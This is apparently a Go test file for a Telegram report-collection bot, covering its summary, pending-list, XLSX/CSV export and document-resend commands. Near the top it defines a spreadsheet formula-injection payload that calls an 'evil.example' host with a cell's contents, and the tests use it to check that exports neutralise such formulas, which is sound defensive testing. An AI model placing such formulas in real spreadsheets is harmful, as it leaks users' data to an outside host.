package bot

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"reportbot/bot/telegramtest"
	"reportbot/flows"
	"reportbot/flows/flowstest"
	"reportbot/flows/sheet"
)

// evilText is a text answer a spreadsheet would run as a formula.
const evilText = `=HYPERLINK("http://evil.example/?"&A1,"点击")`

// officeUnits sets up units in every state the office distinguishes,
// directly in the store: submitted (one with a formula injection in a text
// answer, one in its second version), returned, filling, not started with
// a contact who blocked the bot, without contact.
func officeUnits(h *harness) map[string]schedUnit {
	h.t.Helper()
	now := h.clock.Now()
	units := map[string]schedUnit{}
	add := func(name, cat string, contacts int) schedUnit {
		su := addDirect(h.t, h.store, h.tg, name, cat, contacts, now)
		units[name] = su
		return su
	}
	u := add("离石区双拥工作领导小组", "county", 1)
	flowstest.Submit(h.t, h.store, h.camp, u.Unit, now.Add(-48*time.Hour))
	flowstest.ChangeDraft(h.t, h.store, u.ID, func(d *flows.Draft) *flows.Report {
		d.Version++
		d.Answers["summary_text"] = flows.Answer{Text: evilText}
		d.Answers["filler_name"] = flows.Answer{Text: "+8613900000000"}
		d.Receipt = h.camp.ReceiptNumber(u.ID, d.Version)
		return &flows.Report{UnitID: u.ID, Version: d.Version, Receipt: d.Receipt, SubmittedAt: now.Add(-47 * time.Hour), Answers: d.Answers}
	})
	u = add("孝义市双拥工作领导小组", "county", 1)
	flowstest.Submit(h.t, h.store, h.camp, u.Unit, now.Add(-5*time.Hour))
	add("汾阳市双拥工作领导小组", "county", 0)
	u = add("市财政局", "department", 1)
	flowstest.StartFilling(h.t, h.store, u.Unit, now)
	u = add("市民政局", "department", 1)
	flowstest.Submit(h.t, h.store, h.camp, u.Unit, now.Add(-20*time.Hour))
	flowstest.Return(h.t, h.store, u.Unit, "慰问金数额有误", now)
	u = add("市总工会", "organization", 1)
	ct, err := h.store.Contact(context.Background(), u.users[0].ID)
	if err != nil {
		h.t.Fatal(err)
	}
	ct.Unreachable = true
	if err := h.store.PutContact(context.Background(), ct); err != nil {
		h.t.Fatal(err)
	}
	u = add("吕梁军分区", "military", 1)
	flowstest.Submit(h.t, h.store, h.camp, u.Unit, now.Add(-2*time.Hour))
	return units
}

// storeSums adds up the standing versions in the store, overall and by
// category, independently of the code under test.
func storeSums(h *harness) (all map[string]int64, byCat map[string]map[string]int64, reports map[string]flows.Report) {
	h.t.Helper()
	ctx := context.Background()
	units, err := h.store.Units(ctx)
	if err != nil {
		h.t.Fatal(err)
	}
	all, byCat, reports = map[string]int64{}, map[string]map[string]int64{}, map[string]flows.Report{}
	for _, u := range units {
		d, err := h.store.Draft(ctx, "", u.ID)
		if err != nil {
			h.t.Fatal(err)
		}
		reps, err := h.store.Reports(ctx, "", u.ID)
		if err != nil {
			h.t.Fatal(err)
		}
		if u.Removed || d.Status == flows.StatusReturned || len(reps) == 0 {
			continue
		}
		r := reps[len(reps)-1]
		reports[u.Name] = r
		if byCat[u.Category] == nil {
			byCat[u.Category] = map[string]int64{}
		}
		for _, q := range h.camp.NumberQuestions() {
			if a, ok := r.Answers[q.ID]; ok && !a.Skipped {
				all[q.ID] += a.Num
				byCat[u.Category][q.ID] += a.Num
			}
		}
	}
	return all, byCat, reports
}

// groupSay sends text in the office group as a member (not an admin) and
// returns the bot's messages that answer it.
func (h *harness) groupSay(text string) []telegramtest.Message {
	h.t.Helper()
	before := len(h.tg.Messages(h.group.ID))
	h.tg.SendText(h.member, h.group, text)
	h.settle()
	msgs := h.tg.Messages(h.group.ID)[before:]
	if len(msgs) == 0 {
		h.t.Fatalf("%s in the office group: no answer", text)
	}
	return msgs
}

func joinTexts(msgs []telegramtest.Message) string {
	var parts []string
	for _, m := range msgs {
		parts = append(parts, m.Text+m.Caption)
	}
	return strings.Join(parts, "\n")
}

func TestOfficeSummaryAndPending(t *testing.T) {
	storeKinds(t, func(t *testing.T, kind string) {
		h := newHarness(t, harnessOptions{store: kind})
		h.setGroup()
		officeUnits(h)
		all, byCat, _ := storeSums(h)

		msgs := h.groupSay("/summary")
		if len(msgs) != 1 {
			t.Fatalf("/summary answered with %d messages, want 1", len(msgs))
		}
		got := msgs[0].Text
		for _, want := range []string{
			"已提交：3 / 7 个单位（42.9%）",
			"· 县（市、区）双拥工作领导小组：2 / 3（66.7%）",
			"· 市直单位：0 / 2（0.0%）",
			"· 驻吕部队：1 / 1（100.0%）",
			"退回修改：1 个 — 市民政局",
			"尚未绑定联系人：1 个 — 汾阳市双拥工作领导小组",
			"联系人已屏蔽机器人：1 个 — 市总工会",
			"最新提交：吕梁军分区",
			"截止时间：2022年2月10日 18:00",
		} {
			if !strings.Contains(got, want) {
				t.Errorf("/summary lacks %q:\n%s", want, got)
			}
		}
		for _, q := range h.camp.KeyQuestions() {
			line := "· " + q.Title() + "：" + flows.FormatNumber(q, all[q.ID])
			if !strings.Contains(got, line+"（") {
				t.Errorf("/summary lacks the total %q:\n%s", line, got)
			}
		}
		q := h.camp.Question("troop_visits")
		if line := "（县市区 " + flows.FormatNumber(q, byCat["county"][q.ID]) + "）"; !strings.Contains(got, line) {
			t.Errorf("/summary lacks the county total of troop visits %q", line)
		}

		got = joinTexts(h.groupSay("/pending"))
		for _, want := range []string{
			"📋 未提交单位：4 / 7 个",
			"汾阳市双拥工作领导小组 — 未绑定联系人",
			"市财政局 — 填写中 2/",
			"市民政局 — 退回修改（原因：慰问金数额有误）",
			"市总工会 — 已绑定，未开始填写；联系人已屏蔽机器人",
		} {
			if !strings.Contains(got, want) {
				t.Errorf("/pending lacks %q:\n%s", want, got)
			}
		}
		for _, name := range []string{"离石区", "孝义市", "吕梁军分区"} {
			if strings.Contains(got, name) {
				t.Errorf("/pending lists %s, which has submitted", name)
			}
		}
	})
}

// cellNumber reads a numeric cell (raw), failing unless it is one.
func cellNumber(t *testing.T, f *excelize.File, sheetName, ref string) (float64, bool) {
	t.Helper()
	v, err := f.GetCellValue(sheetName, ref, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if v == "" {
		return 0, false
	}
	typ, _ := f.GetCellType(sheetName, ref)
	n, err := strconv.ParseFloat(v, 64)
	if err != nil || typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
		t.Fatalf("%s!%s = %q (type %v), want a number cell", sheetName, ref, v, typ)
	}
	return n, true
}

func TestOfficeExport(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	h.setGroup()
	officeUnits(h)
	all, byCat, reports := storeSums(h)

	msgs := h.groupSay("/export")
	m := msgs[len(msgs)-1]
	if m.Document == nil {
		t.Fatalf("/export answered %q without a document", joinTexts(msgs))
	}
	if want := h.camp.Title + "_20220120-1000.xlsx"; m.Document.Name != want {
		t.Errorf("export file name = %q, want %q", m.Document.Name, want)
	}
	wantText(t, m, "已提交 3 / 7 个单位")
	f, err := excelize.OpenReader(bytes.NewReader(m.Document.Content))
	if err != nil {
		t.Fatalf("open the exported workbook: %v", err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{sheet.SheetSummary, sheet.SheetTexts, sheet.SheetPending}) {
		t.Fatalf("sheets = %v", got)
	}
	rows, err := f.GetRows(sheet.SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(rows[2][0], "截至 2022年1月20日 10:00") || !strings.Contains(rows[1][0], h.camp.Notice) {
		t.Errorf("header block = %q / %q", rows[1][0], rows[2][0])
	}
	titles := rows[4]
	numbers := h.camp.NumberQuestions()
	col := map[string]int{}
	for _, q := range numbers {
		i := slices.Index(titles, q.Title())
		if i < 0 {
			t.Fatalf("汇总表 has no column %q", q.Title())
		}
		col[q.ID] = i + 1
	}
	catOf := map[string]string{}
	for _, c := range h.camp.Categories {
		catOf[c.Name] = c.ID
	}
	// Every row: units against their report in the store, subtotals and the
	// total against the store's sums.
	var seenUnits, seenSubtotals int
	total := false
	for r := 6; r <= len(rows); r++ {
		name, _ := f.GetCellValue(sheet.SheetSummary, fmt.Sprintf("B%d", r))
		catName, _ := f.GetCellValue(sheet.SheetSummary, fmt.Sprintf("C%d", r))
		var want func(q *flows.Question) (int64, bool)
		switch {
		case strings.HasPrefix(name, "小计"):
			seenSubtotals++
			sums := byCat[catOf[catName]]
			want = func(q *flows.Question) (int64, bool) { return sums[q.ID], true }
		case strings.HasPrefix(name, "合计"):
			total = true
			if r != len(rows) {
				t.Errorf("the total is on row %d of %d", r, len(rows))
			}
			want = func(q *flows.Question) (int64, bool) { return all[q.ID], true }
		default:
			rep, ok := reports[name]
			if !ok {
				t.Fatalf("汇总表 row %d is %q, not a unit with a standing version", r, name)
			}
			seenUnits++
			want = func(q *flows.Question) (int64, bool) {
				a, ok := rep.Answers[q.ID]
				return a.Num, ok && !a.Skipped
			}
		}
		for _, q := range numbers {
			ref, _ := excelize.CoordinatesToCellName(col[q.ID], r)
			got, ok := cellNumber(t, f, sheet.SheetSummary, ref)
			w, wok := want(q)
			if q.Type == flows.TypeMoney {
				got = math.Round(got * 100)
			}
			if ok != wok || int64(got) != w {
				t.Errorf("汇总表!%s (%s, %s) = %v (set %v), want %d (set %v)", ref, name, q.ID, got, ok, w, wok)
			}
		}
	}
	if seenUnits != 3 || seenSubtotals != 4 || !total {
		t.Errorf("汇总表 has %d unit rows, %d subtotals, total %v; want 3, 4, true", seenUnits, seenSubtotals, total)
	}

	// The injection is a text cell, not a formula.
	texts, _ := f.GetRows(sheet.SheetTexts)
	c := slices.Index(texts[0], "活动开展情况简述（不超过1000字）") + 1
	for r, row := range texts {
		if len(row) > 1 && row[1] == "离石区双拥工作领导小组" {
			ref, _ := excelize.CoordinatesToCellName(c, r+1)
			v, _ := f.GetCellValue(sheet.SheetTexts, ref)
			typ, _ := f.GetCellType(sheet.SheetTexts, ref)
			formula, _ := f.GetCellFormula(sheet.SheetTexts, ref)
			if v != evilText || typ != excelize.CellTypeInlineString || formula != "" {
				t.Errorf("文字材料!%s = %q (type %v, formula %q), want the text %q", ref, v, typ, formula, evilText)
			}
		}
	}
	pending, _ := f.GetRows(sheet.SheetPending)
	var states []string
	for _, row := range pending[1:] {
		states = append(states, row[1]+"："+row[4])
	}
	if want := []string{"汾阳市双拥工作领导小组：未绑定联系人", "市财政局：填写中 2/26", "市民政局：退回修改（原因：慰问金数额有误）", "市总工会：已绑定，未开始填写；联系人已屏蔽机器人"}; !slices.Equal(states, want) {
		t.Errorf("未报单位 = %q, want %q", states, want)
	}

	// CSV: BOM, guarded text, the same total.
	msgs = h.groupSay("/export csv")
	m = msgs[len(msgs)-1]
	if m.Document == nil || !strings.HasSuffix(m.Document.Name, ".csv") {
		t.Fatalf("/export csv answered %q", joinTexts(msgs))
	}
	data := m.Document.Content
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV export lacks the UTF-8 BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(slices.Concat(recs...), "\n")
	if !strings.Contains(text, "'"+evilText) || !strings.Contains(text, "'+8613900000000") {
		t.Errorf("CSV export does not guard the formula injections")
	}
	last := recs[len(recs)-1]
	q := h.camp.Question("veteran_cash")
	if got := last[slices.Index(recs[0], q.Title())]; got != flows.FormatMoney(all[q.ID]) {
		t.Errorf("CSV total of %s = %q, want %s", q.ID, got, flows.FormatMoney(all[q.ID]))
	}

	wantText(t, h.groupSay("/export pdf")[0], "用法")
}

func TestOfficeDocs(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	h.setGroup()
	token := h.addUnit("石楼县双拥工作领导小组", "县市区")
	h.addUnit("石楼县人民武装部", "市直")
	h.addUnit("岚县双拥工作领导小组", "县市区")
	u := telegramtest.User{ID: 5901, FirstName: "辛"}
	h.bind(u, token)
	submitQuickly(h, u)

	msgs := h.groupSay("/docs 石楼县双拥")
	wantText(t, msgs[0], "“石楼县双拥工作领导小组”第 1 版报告", "共 1 个文件")
	if !hasDocument(msgs, "报告.pdf") {
		t.Errorf("/docs did not resend the 专题报告: %q", joinTexts(msgs))
	}
	wantText(t, msgs[len(msgs)-1], "专题报告（正式文件）", "第 1 版")

	// Photos go back as photos: add one to a second version.
	h.tg.UploadPhoto(h.member, h.group.ID, jpegBytes)
	h.settle()
	var photo *telegramtest.File
	for _, m := range h.tg.History(h.group.ID) {
		if m.Photo != nil {
			photo = m.Photo
		}
	}
	unit, err := h.store.UnitByName(context.Background(), "石楼县双拥工作领导小组")
	if err != nil || photo == nil {
		t.Fatalf("unit %v, photo %v", err, photo)
	}
	flowstest.ChangeDraft(t, h.store, unit.ID, func(d *flows.Draft) *flows.Report {
		d.Version++
		d.Answers["photos"] = flows.Answer{Files: []flows.File{{ID: photo.ID, UniqueID: photo.UniqueID, Name: "照片.jpg", Photo: true}}}
		return &flows.Report{UnitID: unit.ID, Version: d.Version, Receipt: "SY-2022-0001-2", SubmittedAt: h.clock.Now(), Answers: d.Answers}
	})
	msgs = h.groupSay("/docs 石楼县双拥工作领导小组")
	wantText(t, msgs[0], "第 2 版报告", "共 2 个文件")
	if len(msgs) != 3 || msgs[1].Document == nil || msgs[2].Photo == nil {
		t.Fatalf("/docs answered %d messages (%q), want the list, the document and the photo", len(msgs), joinTexts(msgs))
	}
	wantText(t, msgs[2], "活动照片（最多9张）", "第 2 版")

	wantText(t, h.groupSay("/docs 石楼")[0], "有多个单位", "石楼县双拥工作领导小组", "石楼县人民武装部")
	wantText(t, h.groupSay("/docs 不存在的单位")[0], "找不到单位")
	wantText(t, h.groupSay("/docs 岚县")[0], "尚未提交")
	wantText(t, h.groupSay("/docs")[0], "用法")
}

// TestOfficeCommandsOnlyInOfficeGroup: elsewhere they are refused.
func TestOfficeCommandsOnlyInOfficeGroup(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	other := telegramtest.Chat{ID: -200700, Type: telegramtest.ChatGroup, Title: "闲聊群"}
	h.tg.AddGroup(other)
	// No office group yet.
	wantText(t, h.sayGroup(h.member, h.group, "/summary"), "尚未设置市双拥办工作群")
	h.setGroup()
	for _, cmd := range []string{"/summary", "/pending", "/export", "/docs 离石区"} {
		wantText(t, h.sayGroup(h.member, other, cmd), "只能在市双拥办工作群中使用")
		wantText(t, h.say(h.member, cmd), "只能在市双拥办的工作群中使用")
	}
	if n := h.tg.Calls("sendDocument"); n != 0 {
		t.Errorf("%d documents sent outside the office group", n)
	}
	// Admin commands in a group point to the private chat.
	wantText(t, h.sayGroup(h.admin, h.group, "/deadline 2022-03-01 18:00"), "私聊")
	if d, _ := h.svc.Deadline(context.Background()); !d.Equal(h.camp.Deadline) {
		t.Errorf("deadline changed to %v by a group command", d)
	}
}
